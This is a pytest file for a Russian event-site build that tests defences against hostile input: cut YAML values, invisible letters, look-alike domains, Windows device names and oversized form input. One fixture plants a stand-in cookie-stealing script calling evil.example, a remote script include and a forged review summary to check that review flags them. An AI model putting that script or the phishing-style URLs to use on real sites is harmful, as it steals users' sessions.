"""The fifth round of hostile input (issue 34), each through the real build of a project copy, the
real review command or the form in a real browser: text lost after « #», invisible letters in
names, look-alike site names, a review summary that shows the whole change and is made by the
base commit's code, Windows device names, huge input in the form, and clearer messages."""

from __future__ import annotations

import html
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from browsing import reader
from building import ROOT, build_site, copy_project, serve
from hypothesis import given
from hypothesis import strategies as st
from fixtures import EVENTS, MUNICIPALITIES, NBSP, VALID, event_text, write_event
from test_hostile_input import assert_refused

from qualityweek.core.description import check_description
from qualityweek.core.lookalikes import fold_lookalikes
from qualityweek.core.untrusted import (CONTROL, IGNORABLE, IGNORABLE_PATTERN, check_url,
                                        safe_name, shown)
from qualityweek.inputs.events import EventsError, EventSource, parse_event
from qualityweek.model.results import organizer_key
from qualityweek.outputs.event_rules import MAILTO_LENGTH, slug_for
from qualityweek.tools.review import Change, summary

YEAR = f"{EVENTS}/2026"  # «regions/<регион>/events/2026», as the build names it


def _parse(text: str, slug: str = "x"):
    path = f"{YEAR}/{slug}.md"
    return parse_event(text, EventSource(Path(path), path, 2026, slug), MUNICIPALITIES)


# -- 1. text after « #» in an unquoted value ---------------------------------------------------

def test_text_after_a_hash_in_an_unquoted_value_stops_the_build(tmp_path, project_copy):
    write_event(project_copy, 2026, "tsekh", dict(VALID, title="Экскурсия в цех #2"))
    write_event(project_copy, 2026, "glavnyy", dict(VALID, organizer="ООО «Пример» #главный"))
    build = build_site(tmp_path / "site", project_copy, QUALITY_TODAY="2026-11-05")
    assert_refused(build,
                   f'{YEAR}/tsekh.md, заголовок, строка 2, поле «title»: текст после « #»',
                   'возьмите всё значение в кавычки: title: "Экскурсия в цех #2"',
                   f"{YEAR}/glavnyy.md, заголовок, строка 3, поле «organizer»",
                   'organizer: "ООО «Пример» #главный"')


@pytest.mark.parametrize("front", [
    'title: "Экскурсия в цех #2"',  # quoted: the whole text
    "title: 'Экскурсия в цех #2'",
    "# a whole-line comment stays allowed\ntitle: Экскурсия в цех",
    "title: Экскурсия в цех#2",  # no space before «#»: not a comment
])
def test_a_quoted_hash_and_a_whole_line_comment_are_fine(front):
    fields = {k: v for k, v in VALID.items() if k != "title"}
    text = event_text(fields).replace("---\n", f"---\n{front}\n", 1)
    event = _parse(text)
    assert event.title.startswith("Экскурсия в цех")


def test_the_review_summary_says_what_the_build_says_of_a_lost_hash():
    text = event_text(dict(VALID, title="Экскурсия в цех #2"))
    # as GitHub shows it: character references are the characters
    shown_summary = html.unescape(summary([Change("A", f"{YEAR}/tsekh.md")], lambda path: text,
                                          lambda region: MUNICIPALITIES))
    assert 'title: "Экскурсия в цех #2"' in shown_summary
    assert "текст после « #» YAML считает комментарием" in shown_summary
    assert "«Экскурсия в цех»" not in shown_summary  # never shown as the cut title


# -- 2. invisible letters in organizer names -----------------------------------------------------

INVISIBLE = {"soft hyphen": "\u00ad", "word joiner": "\u2060", "grapheme joiner": "\u034f",
             "variation selector": "\ufe0f"}


@pytest.mark.parametrize("character", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_invisible_characters_do_not_make_another_organizer(character):
    assert organizer_key(f"ООО «При{character}мер»") == organizer_key("ООО «Пример»")
    assert fold_lookalikes(f"При{character}мер") == fold_lookalikes("Пример")


def test_invisible_characters_in_names_stop_the_build_named_in_words(tmp_path, project_copy):
    for slug, character in zip(("a", "b", "c", "d"), INVISIBLE.values()):
        write_event(project_copy, 2026, slug, dict(VALID, organizer=f"ООО «При{character}мер»"))
    write_event(project_copy, 2026, "e", dict(VALID, title="Экскур\u00adсия"))
    build = build_site(tmp_path / "site", project_copy, QUALITY_TODAY="2026-11-05")
    output = assert_refused(build, f"{YEAR}/a.md, поле «organizer»: Организатор: уберите "
                                   "мягкий перенос", f"{YEAR}/e.md, поле «title»")
    for slug in "abcd":
        assert f"{YEAR}/{slug}.md, поле «organizer»: Организатор: уберите" in output
    assert "U+00AD" not in output.split("уберите", 1)[1].split("\n", 1)[0]  # words, not codes


@pytest.mark.parametrize("character", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_the_file_name_ignores_invisible_characters(character):
    assert slug_for(f"При{character}мер") == "primer"


# -- 3. look-alike site names ---------------------------------------------------------------------

LOOKALIKE = ["https://rskrf.ru\u2044login.evil.example/",  # a fraction slash
             "https://аpple.com/",  # a Cyrillic «а» in a Latin name
             "https://ехаmple.org/",  # Cyrillic «е», «х», «а»
             "https://сосо.com/",  # all Cyrillic letters that look Latin, under .com
             "https://ｅxample.org/",  # a fullwidth letter, mapped by UTS #46
             "https://exam\u0440le.org/path"]
GENUINE = ["https://example.org/tour", "https://пример.рф/", "https://сосо.рф/",
           "https://xn--e1afmkfd.xn--p1ai/", "https://日本語.jp/", "https://münchen.de/"]


@pytest.mark.parametrize("url", LOOKALIKE)
def test_a_lookalike_site_name_is_refused(url):
    with pytest.raises(ValueError, match="поддельные адреса"):
        check_url(url)
    with pytest.raises(ValueError, match="поддельные адреса"):
        check_description(f"Запись на сайте {url.removeprefix('https://')} и {url}.")


@pytest.mark.parametrize("url", GENUINE)
def test_a_genuine_site_name_passes(url):
    assert check_url(url) == url
    assert check_description(f"Запись: {url}") == f"Запись: {url}"


def test_a_lookalike_event_page_or_description_link_stops_the_build(tmp_path, project_copy):
    write_event(project_copy, 2026, "slash", dict(VALID, url=LOOKALIKE[0]))
    write_event(project_copy, 2026, "apple", VALID, body="Запись: https://аpple.com/ или www.аpple.com")
    build = build_site(tmp_path / "site", project_copy, QUALITY_TODAY="2026-11-05")
    assert_refused(build, f"{YEAR}/slash.md, поле «url»: Страница мероприятия: в имени сайта "
                          "смешаны буквы разных алфавитов",
                   f"{YEAR}/apple.md, описание: Описание: в имени сайта смешаны буквы")


def test_the_review_summary_shows_the_event_page():
    text = event_text(VALID)
    shown_summary = summary([Change("A", f"{YEAR}/tour.md")], lambda path: text,
                            lambda region: MUNICIPALITIES)
    assert f"Страница мероприятия: `{VALID['url']}`" in shown_summary


# -- 4. the review summary shows the whole change, made by the base commit's code -------------------

FAKE = "ПОДДЕЛЬНАЯ СВОДКА: всё в порядке"


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *args],
                          cwd=repo, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture(scope="module")
def hostile_branch(tmp_path_factory):
    """A repository whose branch `hostile` adds «<script>» to docs/index.md, changes mkdocs.yml
    and hooks/typography.py, adds one event, and rewrites the summary's own code."""
    if shutil.which("git") is None:
        pytest.skip("git not installed")
    repo = copy_project(tmp_path_factory.mktemp("hostile") / "repo")
    shutil.copy2(ROOT / "requirements.txt", repo / "requirements.txt")
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "base")
    base = _git(repo, "rev-parse", "HEAD")
    _git(repo, "checkout", "-qb", "hostile")
    with open(repo / "docs" / "index.md", "a", encoding="utf-8") as page:
        page.write("\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n")
    with open(repo / "mkdocs.yml", "a", encoding="utf-8") as config:
        config.write("\nextra_javascript: [https://evil.example/x.js]\n")
    with open(repo / "hooks" / "typography.py", "a", encoding="utf-8") as hook:
        hook.write("\nimport os  # a hostile change\n")
    write_event(repo, 2026, "tour", VALID)
    (repo / "qualityweek" / "tools" / "review.py").write_text(
        f"print({FAKE!r})\n", encoding="utf-8")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "hostile")
    return repo, base


def _review(repo: Path, *args: str) -> subprocess.CompletedProcess:
    """The summary made by this checkout's code (the base's), of the change in `repo`."""
    return subprocess.run([sys.executable, "-m", "qualityweek.tools.review", "--root", str(repo),
                           *args], cwd=ROOT, capture_output=True, text=True, timeout=120)


def test_the_summary_lists_every_changed_file_outside_the_events(hostile_branch):
    repo, _ = hostile_branch
    result = _review(repo, "--base", "main")  # a branch name, as the README's command
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()

    def line(path: str) -> str:
        return next(x for x in lines if f":** {path}" in x)
    assert "скриптом" in line("docs/index.md")
    assert "настройки" in line("mkdocs.yml")
    assert "код" in line("hooks/typography.py")
    assert "код" in line("qualityweek/tools/review.py")
    assert "**добавлено:** «Экскурсия на молочный завод»" in result.stdout
    # the warning comes first, before the events
    assert result.stdout.index("Файлы вне папки мероприятий") < result.stdout.index(
        "Мероприятия в этом изменении")


def test_the_workflows_summary_is_made_by_the_base_commits_code(hostile_branch, tmp_path):
    """check.yml's own step, run as GitHub runs it: its script, its environment."""
    repo, base = hostile_branch
    check = yaml.safe_load((ROOT / ".github" / "workflows" / "check.yml").read_text("utf-8"))
    (job,) = check["jobs"].values()
    step = next(s for s in job["steps"] if "qualityweek.tools.review" in s.get("run", ""))
    out = tmp_path / "summary.md"
    env = {**os.environ, "BASE_SHA": base, "GITHUB_WORKSPACE": str(repo),
           "RUNNER_TEMP": str(tmp_path), "GITHUB_STEP_SUMMARY": str(out),
           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
           # the pinned packages are installed: pip must not fetch anything
           "PIP_NO_INDEX": "1", "PIP_DISABLE_PIP_VERSION_CHECK": "1"}
    result = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=repo, env=env,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    text = out.read_text(encoding="utf-8")
    assert FAKE not in text
    for path in ("docs/index.md", "mkdocs.yml", "hooks/typography.py"):
        assert f":** {path} — ⚠" in text, text


def test_base_takes_a_branch_name_and_says_when_git_cannot_find_it(hostile_branch):
    repo, base = hostile_branch
    by_name, by_commit = _review(repo, "--base", "main"), _review(repo, "--base", base)
    assert by_name.stdout == by_commit.stdout and "docs/index.md" in by_name.stdout
    missing = _review(repo, "--base", "no-such-branch")
    assert missing.returncode == 1
    assert "git не нашёл ветку или коммит «no-such-branch»" in missing.stdout
    assert "Traceback" not in missing.stderr
    option = _review(repo, "--base=--output=/tmp/x")
    assert option.returncode == 1 and "не имя ветки или коммита" in option.stdout


# -- 5. Windows device names --------------------------------------------------------------------

RESERVED = ("con", "nul", "aux", "com1", "lpt9", "prn")


def test_windows_device_names_stop_the_build_one_line_each(tmp_path, project_copy):
    for slug in RESERVED:
        write_event(project_copy, 2026, slug, VALID)
    build = build_site(tmp_path / "site", project_copy, QUALITY_TODAY="2026-11-05")
    output = assert_refused(build, *(f"{YEAR}/{slug}.md: такое имя файла Windows оставляет "
                                     "для устройств" for slug in RESERVED))
    assert not (tmp_path / "site" / "calendar" / "events" / "2026" / "con.ics").exists()
    assert "Traceback" not in output


@pytest.mark.parametrize("title", ["Con", "NUL", "aux", "Com1", "LPT1"])
def test_the_file_name_for_a_device_like_title_is_another(title):
    slug = slug_for(title)
    assert slug.startswith(title.lower()) and slug != title.lower()


def test_the_review_does_not_take_a_device_name_for_an_event():
    text = summary([Change("A", f"{YEAR}/con.md")], lambda path: event_text(VALID),
                   lambda region: MUNICIPALITIES)
    assert "⚠ не файл мероприятия" in text


# -- 6. the form on huge input ---------------------------------------------------------------------

HUGE = "а" * 100_000


@pytest.fixture(scope="module")
def form_site(tmp_path_factory):
    build = build_site(tmp_path_factory.mktemp("form") / "site", QUALITY_TODAY="2026-11-28")
    assert build.result.returncode == 0, build.output
    with serve(build.site) as url:
        yield url


def test_huge_input_is_refused_at_once_and_kept(browser, form_site):
    with reader(browser, "phone") as session:
        page = session.page
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        page.goto(form_site + "propose/")
        page.wait_for_selector("form[data-qw-form]:not([hidden])")
        for name in ("title", "organizer", "description"):
            page.evaluate("text => navigator.clipboard.writeText(text)", HUGE)
            page.locator(f"form [name='{name}']").focus()
            page.keyboard.press("Control+V")
        for name in ("title", "organizer", "description"):
            assert len(page.locator(f"form [name='{name}']").input_value()) == len(HUGE)
            error = page.locator(f"[data-qw-error-for='{name}']")
            assert error.is_visible() and "сейчас 100000" in error.inner_text()
        # the heavy work was not done: no 100 KB card, file or mail link
        assert len(page.locator("[data-qw-preview]").inner_text()) < 1000
        send = page.locator("[data-qw-send]")
        if send.count():
            assert len(send.get_attribute("href")) <= MAILTO_LENGTH
        assert not session.errors, session.errors


# -- 7. messages --------------------------------------------------------------------------------------

@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from("\u3164\u2028\ufeff\x1b"),
               max_size=20))
def test_a_message_escapes_a_character_as_the_build_names_files(text):
    shortened = text if len(text) <= 80 else text[:79] + "…"
    assert shown(text) == f"«{safe_name(shortened)}»"


def test_u3164_is_written_one_way():
    assert shown("a\u3164b") == "«a\\u3164b»" and safe_name("a\u3164b") == "a\\u3164b"
    assert CONTROL.match("\u3164")


@pytest.mark.parametrize("start, words", [
    (f"2026-11-12{NBSP}10:00", "Начало: в дате особый пробел"),
    ("2026-11-31", "Начало: такого дня нет"),
    ("2026-02-29", "Начало: такого дня нет"),
    ("2026-11-12 24:30", "Начало: такого времени нет"),
])
def test_a_date_that_looks_right_gets_its_own_message(start, words):
    with pytest.raises(EventsError) as error:
        _parse(event_text(dict(VALID, start=start, end="2026-11-12 12:30")))
    assert f"поле «start»: {words}" in str(error.value)
    assert "ГГГГ-ММ-ДД" not in str(error.value)


def test_a_day_that_does_not_exist_stops_the_build_with_its_message(tmp_path, project_copy):
    write_event(project_copy, 2026, "fevral", dict(VALID, start="2026-02-29"))
    write_event(project_copy, 2026, "probel", dict(VALID, start=f"2026-11-12{NBSP}10:00"))
    build = build_site(tmp_path / "site", project_copy, QUALITY_TODAY="2026-11-05")
    assert_refused(build, f"{YEAR}/fevral.md, поле «start»: Начало: такого дня нет",
                   f"{YEAR}/probel.md, поле «start»: Начало: в дате особый пробел")


def test_the_form_and_the_build_know_the_same_invisible_characters(browser):
    """The rules JSON gives the form the property's name (untrusted.IGNORABLE_PATTERN): the
    browser's Unicode data and the `regex` package's must mark the same code points."""
    every = "".join(map(chr, range(0x110000)))
    ours = _joined([m.start(), m.end() - 1] for m in IGNORABLE.finditer(every))
    with reader(browser, "phone") as session:
        theirs = session.page.evaluate("""pattern => {
          const re = new RegExp(pattern, "u"), runs = [];
          for (let c = 0; c < 0x110000; c += 1) {
            if (c >= 0xd800 && c <= 0xdfff) continue;
            if (!re.test(String.fromCodePoint(c))) continue;
            const last = runs[runs.length - 1];
            if (last && last[1] === c - 1) last[1] = c; else runs.push([c, c]);
          }
          return runs; }""", IGNORABLE_PATTERN)
    assert theirs == ours


def _joined(runs):
    out = []
    for first, last in runs:
        if out and out[-1][1] == first - 1:
            out[-1][1] = last
        else:
            out.append([first, last])
    return out
